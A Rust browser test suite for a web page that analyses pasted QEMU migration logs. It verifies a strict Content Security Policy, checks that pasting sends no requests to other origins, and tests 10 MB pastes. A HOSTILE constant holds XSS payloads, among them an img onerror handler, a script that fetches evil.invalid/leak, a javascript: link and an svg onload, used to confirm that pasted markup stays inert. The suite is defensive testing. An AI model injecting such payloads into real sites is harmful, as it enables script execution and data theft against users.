//! Nothing pasted leaves the page: recorded, not assumed.

use crate::harness::{console_problems, page_ready, paste, root, settle, show_charts};
use crate::quiet_browser::with_browser;
use crate::server::Site;
use fantoccini::Locator;
use std::collections::BTreeSet;
use std::path::Path;
use std::time::Duration;

/// Markup and script a paste could carry (from a web page, a ticket, a chat);
/// it must stay text. Each would make a request or set `window.__pwned` if run.
const HOSTILE: &str = r#"(qemu) info migrate
Migration status: active
<img src="http://evil.invalid/img.png" onerror="window.__pwned = 'img'">
<script>window.__pwned = 'script'; fetch('http://evil.invalid/leak')</script>
<iframe src="http://evil.invalid/frame"></iframe>
<link rel="stylesheet" href="http://evil.invalid/style.css">
<a href="javascript:window.__pwned='link'">x</a>
<svg onload="window.__pwned='svg'"></svg>
{"return": {"status": "active<img src=x onerror=window.__pwned=1>"}}
migrate -d tcp:dst-host.internal.example:4444  tls-creds=tls0 tls-hostname=dst-host.internal.example
"#;

/// The `i`-th file (sorted) in `dir` whose name ends with `suffix`.
fn nth(dir: &Path, suffix: &str, i: usize) -> std::path::PathBuf {
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.to_string_lossy().ends_with(suffix))
        .collect();
    files.sort();
    files.get(i).cloned().unwrap_or_else(|| panic!("no file {i} *{suffix} in {}", dir.display()))
}

/// Real captures of every kind the page reads (HMP of three QEMU versions,
/// QMP, virsh, a raw interactive transcript, the user's paste), then hostile markup.
fn examples() -> Vec<(String, String)> {
    let d = root().join("tests/data/corpus");
    let runs = d.join("runs");
    let mut files = vec![d.join("seed/as_pasted.txt"), runs.join("10.0.2-A/before/hmp_raw_transcript_example.bin")];
    for run in ["7.2.22-B", "10.0.2-B", "10.2.2-B"] {
        files.push(nth(&runs.join(run).join("snapshots"), "_hmp.txt", 39));
    }
    files.push(nth(&runs.join("10.0.2-B/snapshots"), "_qmp.json", 39));
    files.push(nth(&d.join("virsh/02-dirty-32MiBps-abort/poll"), "_src_domjobinfo.txt", 10));
    let mut v: Vec<(String, String)> = files
        .iter()
        .map(|f| {
            (
                f.display().to_string(),
                String::from_utf8_lossy(&std::fs::read(f).unwrap_or_else(|e| panic!("{}: {e}", f.display())))
                    .into_owned(),
            )
        })
        .collect();
    v.push(("hostile markup".into(), HOSTILE.into()));
    v
}

/// Hosts Chromium itself contacts at start-up whatever page is open (component
/// updates, sign-in, the default search engine's preconnect), which no flag
/// fully silences. They come from the browser process, not the page; the
/// page's own requests to any origin are also checked through its Performance
/// entries and the CSP console errors below, where these never appear.
fn browser_own(host: &str) -> bool {
    let name = host.split(':').next().unwrap_or("");
    [
        "start.duckduckgo.com",
        "update.googleapis.com",
        "accounts.google.com",
        "clients2.google.com",
        "www.google.com",
        "content-autofill.googleapis.com",
        "safebrowsingohttpgateway.googleapis.com",
    ]
    .contains(&name)
}

/// "/" plus every file of dist/, as URL paths.
fn own_files(dist: &Path) -> BTreeSet<String> {
    fn walk(d: &Path, base: &Path, out: &mut BTreeSet<String>) {
        for e in std::fs::read_dir(d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                walk(&p, base, out);
            } else if let Ok(rel) = p.strip_prefix(base) {
                out.insert(format!("/{}", rel.display()));
            }
        }
    }
    let mut s = BTreeSet::from(["/".to_string()]);
    walk(dist, dist, &mut s);
    s
}

fn dist() -> std::path::PathBuf {
    let d = root().join("dist");
    assert!(
        d.join("index.html").exists(),
        "dist/index.html is missing: run `make test` (or `trunk build --release`) first"
    );
    d
}

/// The built page's own policy: no remote origin anywhere, the loader's hash filled in.
#[test]
#[ignore = "browser: needs dist/ and chromedriver (make test)"]
fn built_page_has_a_strict_csp_with_the_loader_hash() {
    let html = std::fs::read_to_string(dist().join("index.html")).expect("dist/index.html");
    // The <meta> naming the policy, in whatever attribute order and quoting the release
    // build's HTML minifier leaves; its content is quoted (it holds spaces).
    let at = html.find("Content-Security-Policy").expect("a CSP meta tag");
    let tag = &html[html[..at].rfind("<meta").expect("in a <meta>")..];
    let csp = tag[..tag.find('>').expect("a closed <meta>")]
        .split("content=\"")
        .nth(1)
        .and_then(|r| r.split('"').next())
        .expect("the policy in content=\"...\"");
    assert!(!csp.contains("TRUNK_INLINE_SCRIPT_HASHES"), "post_build hook did not run: {csp}");
    assert_eq!(csp.matches("'sha256-").count(), 1, "exactly Trunk's loader is allowed inline: {csp}");
    for bad in ["http:", "https:", "*", "data:", "'unsafe-eval'", "blob:"] {
        assert!(!csp.contains(bad), "CSP allows {bad}: {csp}");
    }
    // Nothing inline but the loader: no inline script, no style attribute (chart labels
    // are measured on the canvas, not with a styled <span>).
    let directives: Vec<&str> = csp.split(';').map(str::trim).collect();
    assert!(!csp.contains("'unsafe-inline'") && !csp.contains("style-src-attr"), "{csp}");
    assert!(directives.contains(&"require-trusted-types-for 'script'"), "{csp}");
    assert!(
        csp.contains("default-src 'none'") && csp.contains("'wasm-unsafe-eval'") && csp.contains("connect-src 'self'"),
        "{csp}"
    );
}

/// The recorder itself: a request to another origin does show up.
#[test]
#[ignore = "browser: needs dist/ and chromedriver (make test)"]
fn recorder_sees_requests_to_other_origins() {
    let site = Site::start(dist(), "/");
    with_browser(site.proxy_args(), async |c| {
        let _ = c.goto("http://other-origin.invalid/probe").await;
        let seen = site.requests();
        assert!(
            seen.iter().any(|r| r.host.starts_with("other-origin.invalid")),
            "the proxy missed a foreign request: {seen:?}"
        );
        Ok(())
    });
}

#[test]
#[ignore = "browser: needs dist/ and chromedriver (make test)"]
fn pasting_examples_requests_nothing_but_the_pages_own_files() {
    let dist = dist();
    let own = own_files(&dist);
    let site = Site::start(dist, "/");
    with_browser(site.proxy_args(), async |c| {
        c.goto(&site.url()).await?;
        page_ready(c).await?;
        let scripts_before = c.execute("return document.scripts.length", vec![]).await?;
        let mut charts = 0;
        for (name, text) in examples() {
            paste(c, &text).await?;
            let shown = c.execute("return document.getElementById('paste').value", vec![]).await?;
            let norm = |s: &str| s.replace("\r\n", "\n").replace('\r', "\n");
            assert_eq!(shown.as_str().map(norm), Some(norm(&text)), "{name}: the paste area changed the text");
            // Charts draw only when seen: draw them, so that their drawing runs under the CSP too.
            let draws = show_charts(c).await?;
            let drawn = draws.as_object().map(|m| m.values().filter(|v| v.as_u64() >= Some(1)).count()).unwrap_or(0);
            assert_eq!(Some(drawn), draws.as_object().map(|m| m.len()), "{name}: charts not drawn: {draws}");
            charts += drawn;
        }
        assert!(charts > 0, "no example drew a chart");
        // Pasted markup stayed text: nothing ran, no element was made from it.
        let pwned = c.execute("return window.__pwned === undefined ? null : String(window.__pwned)", vec![]).await?;
        assert!(pwned.is_null(), "pasted markup ran: {pwned}");
        let made = c.execute("return document.querySelectorAll('img, iframe, svg[onload], link[href*=evil], a[href^=javascript]').length", vec![]).await?;
        assert_eq!(made.as_u64(), Some(0), "pasted markup became elements");
        assert_eq!(
            c.execute("return document.scripts.length", vec![]).await?,
            scripts_before,
            "a pasted script became an element"
        );
        // Let anything lazy (service worker precache, late fetches) happen, then read the record.
        c.execute_async("const done = arguments[0]; navigator.serviceWorker.ready.then(() => done(true)); setTimeout(() => done(false), 10000);", vec![]).await?;
        tokio::time::sleep(Duration::from_millis(1000)).await;
        settle(c).await?;
        let entries = c
            .execute("return performance.getEntries().map(e => e.name).filter(n => /^[a-z]+:/.test(n))", vec![])
            .await?;
        let reqs = site.requests();
        // The service worker's precache alone fetches every own file once more.
        assert!(
            reqs.iter().filter(|r| r.host == site.origin()).count() > own.len(),
            "the record is too short to be real: {reqs:?}"
        );
        let foreign: Vec<_> = reqs.iter().filter(|r| r.host != site.origin() && !browser_own(&r.host)).collect();
        assert!(foreign.is_empty(), "requests to other origins: {foreign:?}");
        let unknown: Vec<_> =
            reqs.iter().filter(|r| r.host == site.origin() && (!own.contains(&r.path) || r.method != "GET")).collect();
        assert!(unknown.is_empty(), "requests beyond the page's own files: {unknown:?}");
        for e in entries.as_array().into_iter().flatten() {
            let url = e.as_str().unwrap_or("");
            assert!(url.starts_with(&site.url()), "the page loaded {url}");
        }
        let problems = console_problems(c).await?;
        let csp: Vec<_> = problems
            .iter()
            .filter(|m| m.contains("Content Security Policy") || m.contains("Refused") || m.contains("Trusted"))
            .collect();
        assert!(csp.is_empty(), "CSP violations: {csp:?}");
        let chromium = reqs.iter().filter(|r| browser_own(&r.host)).count();
        eprintln!(
            "privacy: {} requests recorded: {} to {} (all among the {} own files), {chromium} from Chromium itself",
            reqs.len(),
            reqs.len() - chromium,
            site.origin(),
            own.len()
        );
        Ok(())
    });
}

/// Paste 10 MB as a paste event (as Ctrl+V delivers it): the tab must survive,
/// answer, keep computing, and be frozen for a moment only. The page keeps the
/// last 256 KiB (src/ui/big_paste.rs): a textarea holding 10 MB alone freezes
/// Chromium for 15-25 s here, whatever the page does.
#[test]
#[ignore = "browser: needs dist/ and chromedriver (make test)"]
fn a_10_mb_paste_neither_crashes_nor_freezes_the_tab() {
    let site = Site::start(dist(), "/");
    let runs = root().join("tests/data/corpus/runs/10.0.2-B/snapshots");
    let mut one = String::new();
    let mut files: Vec<_> = std::fs::read_dir(&runs)
        .expect("corpus")
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.to_string_lossy().ends_with("_hmp.txt"))
        .collect();
    files.sort();
    for f in files {
        one.push_str("(qemu) info migrate\r\n");
        one.push_str(&std::fs::read_to_string(f).expect("snapshot"));
    }
    let huge: String = one.repeat(10_000_000 / one.len() + 1).chars().take(10_000_000).collect();
    with_browser(vec![], async |c| {
        c.goto(&site.url()).await?;
        page_ready(c).await?;
        let t = c
            .execute_async(
                "const [text, done] = arguments; const ta = document.getElementById('paste'); ta.focus(); \
                 const dt = new DataTransfer(); dt.setData('text/plain', text); const t0 = performance.now(); \
                 ta.dispatchEvent(new ClipboardEvent('paste', {clipboardData: dt, bubbles: true, cancelable: true})); \
                 const t1 = performance.now(); requestAnimationFrame(() => setTimeout(() => done([t1 - t0, performance.now() - t0, ta.value.length]), 0));",
                vec![serde_json::Value::String(huge.clone())],
            )
            .await?;
        let (handler, frozen, kept) =
            (t[0].as_f64().unwrap_or(f64::NAN), t[1].as_f64().unwrap_or(f64::NAN), t[2].as_u64().unwrap_or(0));
        eprintln!("10 MB paste: page's handler {handler:.0} ms, frozen until the next frame {frozen:.0} ms, box keeps {kept} chars");
        assert!(kept > 200_000 && kept <= 256 * 1024, "the box holds {kept} chars");
        let note = c.find(Locator::Css("#paste-trimmed")).await?.text().await?;
        assert!(note.contains("10.0 MB"), "{note}");
        let summary = c.find(Locator::Css("#parse-summary")).await?.text().await?;
        let snapshots: usize =
            summary.split_whitespace().next().and_then(|n| n.replace(',', "").parse().ok()).unwrap_or(0);
        assert!(snapshots > 300, "the kept tail was not analysed: {summary}");
        // Still alive and still computing: a normal paste afterwards gives its result.
        let seed = std::fs::read_to_string(root().join("tests/data/corpus/seed/as_pasted.txt"))?;
        paste(c, &seed).await?;
        let f1 = c.find(Locator::Css("#d-f1-value")).await?.attr("data-value").await?;
        assert!(
            f1.and_then(|v| v.parse::<f64>().ok()).is_some_and(|v| (v - 1475.94).abs() < 0.01),
            "the page stopped computing after 10 MB"
        );
        // A moment: under 2 s even on this shared 2-core machine (it was 15-27 s before).
        assert!(frozen < 2000.0, "frozen for {frozen:.0} ms after a 10 MB paste");
        Ok(())
    });
}
